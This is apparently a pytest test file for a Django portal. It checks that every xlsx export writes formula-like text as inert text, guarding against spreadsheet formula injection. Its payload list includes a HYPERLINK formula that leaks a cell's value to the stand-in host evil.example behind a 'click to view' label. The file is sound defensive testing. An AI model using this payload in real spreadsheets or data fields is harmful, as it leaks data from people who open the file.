"""Formula injection: every xlsx export of the portal writes text that looks like a formula as text.

The list of exports comes from the URL configuration (every page route whose name or path says
export, xlsx or template), so a new export is walked without editing this file; one that needs a
URL argument this file cannot fill fails until it is added to `url_kwargs`.
"""

from __future__ import annotations

import dataclasses
import datetime
import io
import re
import zipfile
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from common.spreadsheets import XLSX_CONTENT_TYPE, Sheet, build_workbook, workbook_bytes, writing
from common.spreadsheets.columns import TextColumn
from common.spreadsheets.writing import FORMULA_PREFIXES
from kindergartens.models import Kindergarten
from kindergartens.services import ImportResult, import_kindergartens

from ..conftest import client_for

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'
PAYLOADS = [HYPERLINK, "=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def as_read(text: str) -> str:
    """XML turns a carriage return into a line feed when the file is read (openpyxl writes it
    raw); the cell is text all the same."""
    return text.replace("\r", "\n")


EXPORT_ROUTE = re.compile(r"export|xlsx|template")


def _walk(patterns, prefix: str = "", namespace: str = ""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}:{pattern.namespace}" if namespace and pattern.namespace else pattern.namespace
            yield from _walk(pattern.url_patterns, prefix + str(pattern.pattern), inner or namespace)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield prefix + str(pattern.pattern), f"{namespace}:{pattern.name}" if namespace else pattern.name


def export_routes() -> list[tuple[str, str]]:
    """(route, URL name) of every xlsx download among the pages (not the API, not the admin)."""
    return sorted(
        (route, name)
        for route, name in _walk(get_resolver().url_patterns)
        if not route.startswith(("api/", "admin/")) and EXPORT_ROUTE.search(f"{route} {name}")
    )


def test_the_walk_finds_the_exports():
    names = {name for _route, name in export_routes()}
    assert {"kindergartens:kindergarten_export", "safety:incident_export", "governance:fee_filing_export"} <= names
    assert len(names) >= 20


class _Injecting:
    """A column whose every written string starts with a formula payload."""

    def __init__(self, column, payload: str):
        self._column, self._payload = column, payload

    def __getattr__(self, name: str) -> Any:
        return getattr(self._column, name)

    def format(self, value: Any) -> Any:
        written = self._column.format(value)
        return self._payload + written if isinstance(written, str) else written


@pytest.fixture
def injected(monkeypatch):
    """Every sheet written through the shared writer gets payloads in its string cells and notes;
    the sheets written are counted, so an export that bypasses the writer is caught."""
    seen: list[str] = []
    original = writing._write_sheet

    def spy(worksheet, sheet: Sheet) -> None:
        payload = PAYLOADS[len(seen) % len(PAYLOADS)]
        seen.append(sheet.title)
        columns = [_Injecting(c, payload) for c in sheet.columns]
        original(worksheet, dataclasses.replace(sheet, columns=columns, notes=[*sheet.notes, *PAYLOADS]))

    monkeypatch.setattr(writing, "_write_sheet", spy)
    return seen


def formula_cells(content: bytes) -> list[str]:
    """Formulas in the file, read from the XML itself (a `<f>` element) and from openpyxl."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                if re.search(rb"<f[ >]", archive.read(name)):
                    found.append(name)
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            found.extend(cell.coordinate for cell in row if cell.data_type == "f")
    return found


def text_values(content: bytes) -> set[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return {
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "s"
    }


@pytest.fixture
def url_kwargs(db):
    from inspections.models import FrameworkVersion
    from staff.choices import TrainingLevel, TrainingMode
    from staff.models import Course
    from tests.enrollment.factories import SchoolYearFactory

    SchoolYearFactory()  # the current school year, which the tracker's export needs
    course = Course.objects.create(
        title="=1+1",
        hours=Decimal(16),
        credits=Decimal(4),
        level=TrainingLevel.DISTRICT,
        mode=TrainingMode.ONLINE,
        starts_on=datetime.date(2026, 3, 2),
        ends_on=datetime.date(2026, 3, 4),
    )
    return {
        "inspections:points_export": {"pk": FrameworkVersion.objects.get(version=1).pk},
        "staff:course_template": {"pk": course.pk},
    }


@pytest.mark.parametrize(("route", "name"), export_routes())
def test_every_export_writes_formula_payloads_as_text(
    client, bureau_admin, kg_a, kg_c, url_kwargs, injected, route, name
):
    kwargs = url_kwargs.get(name, {})
    if "<" in route:
        assert kwargs, f"{name} ({route}) takes URL arguments: add them to url_kwargs"
    response = client_for(client, bureau_admin).get(reverse(name, kwargs=kwargs))

    assert response.status_code == 200, name
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert injected, f"{name} does not write its workbook through common.spreadsheets"
    content = response.getvalue()  # a streamed export (xlsx_stream_response) has no .content
    assert formula_cells(content) == []
    assert {as_read(p) for p in PAYLOADS} <= text_values(content)


def test_the_writer_marks_formula_like_text_with_the_quote_prefix():
    sheet = Sheet(title="t", columns=[TextColumn(header="名称", field="name")], rows=[{"name": p} for p in PAYLOADS])
    workbook = openpyxl.load_workbook(io.BytesIO(workbook_bytes(build_workbook([sheet]))))
    cells = [row[0] for row in workbook.active.iter_rows(min_row=2, max_row=len(PAYLOADS) + 1)]
    assert [c.value for c in cells] == [as_read(p) for p in PAYLOADS]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert all(p.startswith(FORMULA_PREFIXES) for p in PAYLOADS)


def test_an_api_written_address_exports_as_text_and_round_trips(client, api_client, bureau_official, director_a, kg_a):
    """The attack of the issue: a director writes a formula through the API; the bureau exports
    the registry and imports the file back: the text is unchanged and nothing else moves."""
    api_client.force_authenticate(director_a)
    response = api_client.patch(
        reverse("kindergarten-detail", args=[kg_a.pk]), {"address": HYPERLINK, "phone": "+8610-1234"}, format="json"
    )
    assert response.status_code == 200, response.content
    Kindergarten.objects.filter(pk=kg_a.pk).update(name="=1+1")

    content = client_for(client, bureau_official).get(reverse("kindergartens:kindergarten_export")).content
    assert formula_cells(content) == []
    assert {HYPERLINK, "=1+1", "+8610-1234"} <= text_values(content)

    result = import_kindergartens(file=SimpleUploadedFile("export.xlsx", content), user=bureau_official)
    assert result == ImportResult(created=0, updated=0, unchanged=1)
    kg_a.refresh_from_db()
    assert (kg_a.name, kg_a.address, kg_a.phone) == ("=1+1", HYPERLINK, "+8610-1234")
